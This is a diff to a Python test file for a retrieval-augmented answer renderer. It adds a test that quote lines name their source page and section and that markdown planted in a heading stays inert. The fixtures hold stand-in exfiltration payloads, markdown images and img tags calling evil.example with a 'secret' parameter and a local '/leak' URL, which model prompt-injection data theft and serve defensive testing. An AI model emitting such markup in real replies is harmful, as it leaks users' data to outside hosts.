@@ -4,6 +4,8 @@ that were given, document text is escaped, uncited passages are listed; verified
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 import pytest
 
 from rag.types import Answer, Chunk, Citation, Hit
@@ -102,14 +104,27 @@ def test_quotes_follow_the_reply_with_linked_markers_and_planted_markup_inert():
     assert "<img" not in _html(md) and "evil.example" in _html(md)  # shown, never fetched
 
 
+def test_each_quote_names_its_page_and_a_planted_heading_stays_inert():
+    """A quote line names where it is from (rag.answer.prompt.quote_source: the page and the
+    section of its citation); a heading is the document's text, so markup planted there is
+    shown, never fetched or run."""
+    answer = _answer("Use tar [1].", [1, 2])
+    answer.quotes = [(1, "Run tar first."), (2, "Then list it.")]
+    answer.citations[1] = replace(
+        answer.citations[1], heading_path=("Top", "![x](http://evil.example/?q=secret)")
+    )
+    md = reply_markdown(answer)
+    quotes = md.split("From the documents:")[1]
+    assert "Run tar first." in quotes and "Top › S1" in quotes
+    assert "<img" not in _html(md) and "evil.example" in _html(md)
+
+
 # ---- citation verification, code and escaping in the reply -----------------------------------
 
 
 def _verified(raw: str, cited: list[int], **verdict) -> Answer:
     """A hand-made Answer as rag.answer.verify leaves it: ``unsupported`` numbers carry
     ``supported=False``; ``reattributed``, ``suspected_injection``, ``injection_reasons`` set."""
-    from dataclasses import replace
-
     answer = _answer(raw, cited)
     bad = set(verdict.get("unsupported_citations", []))
     answer.citations = [replace(c, supported=c.number not in bad) for c in answer.citations]
@@ -242,8 +257,6 @@ def test_planted_images_and_links_render_inert(planted):
 
 
 def test_planted_markup_in_passages_stays_text():
-    from dataclasses import replace
-
     answer = _answer("x [1]", [1])
     planted = '![s](http://127.0.0.1:9/leak) <img src="http://127.0.0.1:9/leak">'
     answer.citations = [replace(answer.citations[0], text=planted)]
